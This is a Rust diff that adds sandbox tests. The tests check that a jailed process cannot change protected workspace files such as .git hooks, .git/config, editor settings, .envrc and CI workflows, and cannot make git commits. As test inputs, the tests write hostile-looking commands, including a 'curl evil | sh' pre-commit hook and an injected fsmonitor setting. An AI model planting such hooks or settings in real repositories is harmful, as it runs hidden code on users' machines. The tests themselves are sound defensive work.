@@ -477,6 +477,61 @@ fn nothing_outside_the_workspace_is_written() {
     }
 }
 
+/// Protected paths inside the workspace (`policy::PROTECTED`) stay as they are, though the
+/// workspace is writable: a hook or an editor setting is code that runs outside the jail.
+#[test]
+fn protected_paths_in_the_workspace_are_kept_with_namespaces() {
+    for identity in identities()
+        .into_iter()
+        .filter(|identity| *identity != Identity::NoNamespaces)
+    {
+        let scenario = Scenario::new(identity);
+        let ws = scenario.workspace();
+        for dir in [".git/hooks", ".vscode", ".github/workflows"] {
+            std::fs::create_dir_all(ws.join(dir)).unwrap();
+        }
+        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
+        std::fs::write(ws.join(".vscode/settings.json"), "{}\n").unwrap();
+        std::fs::write(ws.join(".envrc"), "export A=1\n").unwrap();
+        if identity == Identity::Unprivileged {
+            let (uid, gid) = test_user();
+            chown_tree(&ws, uid, gid);
+        }
+        let run = scenario.sandbox(
+            &attempts(&[
+                &["sh", "-c", "echo 'curl evil | sh' > .git/hooks/pre-commit"],
+                &["sh", "-c", "echo '[core] fsmonitor = evil' >> .git/config"],
+                &["sh", "-c", "echo '{\"x\": 1}' > .vscode/settings.json"],
+                &["sh", "-c", "echo evil >> .envrc"],
+                &["sh", "-c", "echo 'on: push' > .github/workflows/evil.yml"],
+                &["mv", ".git", "moved-git"],
+                &["sh", "-c", "echo fine > src-file.txt && cat src-file.txt"],
+            ]),
+            &[],
+        );
+        assert!(
+            !ws.join(".git/hooks/pre-commit").exists(),
+            "{identity:?}: {}",
+            run.output
+        );
+        assert_eq!(
+            std::fs::read_to_string(ws.join(".git/config")).unwrap(),
+            "[core]\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(ws.join(".vscode/settings.json")).unwrap(),
+            "{}\n"
+        );
+        assert_eq!(
+            std::fs::read_to_string(ws.join(".envrc")).unwrap(),
+            "export A=1\n"
+        );
+        assert!(!ws.join(".github/workflows/evil.yml").exists());
+        assert!(ws.join(".git").is_dir() && !ws.join("moved-git").exists());
+        run.assert_printed("fine");
+    }
+}
+
 /// Landlock does not cover metadata; the read-only mounts do (where there are namespaces).
 #[test]
 fn metadata_outside_the_workspace_is_kept_with_namespaces() {
@@ -762,35 +817,93 @@ fn a_fork_bomb_is_bounded() {
     assert!(processes_matching("86777").is_empty());
 }
 
-/// Python with pytest, git (with the user's configuration), node, and the toolchain homes
-/// under the real HOME (cargo, pyenv) when this user has them.
+/// Python with pytest, git (with the user's configuration; reading only, as `.git` is
+/// protected), node, and the toolchain homes under the real HOME (cargo, pyenv) when this user
+/// has them.
 #[test]
 fn common_toolchains_work() {
     for identity in identities() {
         let scenario = Scenario::new(identity);
+        let ws = scenario.workspace();
         std::fs::write(
-            scenario.workspace().join("test_math.py"),
+            ws.join("test_math.py"),
             "def test_add():\n    assert 1 + 1 == 2\n",
+        )
+        .unwrap();
+        let git = |args: &[&str]| {
+            let status = Command::new("git")
+                .args(["-c", "safe.directory=*"])
+                .args([
+                    "-c",
+                    "user.name=Repo Owner",
+                    "-c",
+                    "user.email=o@example.com",
+                ])
+                .args(args)
+                .current_dir(&ws)
+                .output()
+                .unwrap();
+            assert!(
+                status.status.success(),
+                "git {args:?}: {}",
+                String::from_utf8_lossy(&status.stderr)
+            );
+        };
+        git(&["init", "-q"]);
+        git(&["add", "test_math.py"]);
+        git(&["commit", "-q", "-m", "first"]);
+        std::fs::write(
+            ws.join("test_math.py"),
+            "def test_add():\n    assert 2 == 2\n",
         )
         .unwrap();
         if identity == Identity::Unprivileged {
             let (uid, gid) = test_user();
-            chown_tree(&scenario.workspace(), uid, gid);
+            chown_tree(&ws, uid, gid);
         }
         let run = scenario.sandbox(
             &attempts(&[
-                &["/usr/bin/python3", "-m", "pytest", "-q"],
-                &["git", "init", "-q"],
-                &["git", "add", "test_math.py"],
-                &["git", "commit", "-q", "-m", "first"],
+                &[
+                    "/usr/bin/python3",
+                    "-m",
+                    "pytest",
+                    "-q",
+                    "-p",
+                    "no:cacheprovider",
+                ],
+                &["git", "config", "user.name"],
                 &["git", "log", "--format=%an %s"],
+                &["git", "status", "--short"],
+                &["git", "diff", "--stat"],
+                // The repository's internals are protected: a commit is refused.
+                &["git", "commit", "-q", "-am", "second"],
                 &["node", "-e", "console.log('node', 6 * 7)"],
             ]),
             &["--timeout-ms", "60000"],
         );
         run.assert_printed("1 passed");
-        run.assert_printed("Jail Test first");
+        run.assert_printed("Jail Test");
+        run.assert_printed("Repo Owner first");
+        run.assert_printed("M test_math.py");
+        run.assert_printed("1 file changed");
         run.assert_printed("node 42");
+        let log = Command::new("git")
+            .args(["-c", "safe.directory=*", "log", "--oneline"])
+            .current_dir(&ws)
+            .output()
+            .unwrap();
+        // Without a mount namespace nothing protects `.git` from a command (docs/sandbox.md).
+        let commits = if identity == Identity::NoNamespaces {
+            2
+        } else {
+            1
+        };
+        assert_eq!(
+            String::from_utf8_lossy(&log.stdout).lines().count(),
+            commits,
+            "{identity:?}: a commit went through:\n{}",
+            run.output
+        );
     }
     // The real home's toolchains (rustup's cargo, pyenv's python here), as this user.
     let ws = tempfile::tempdir().unwrap();
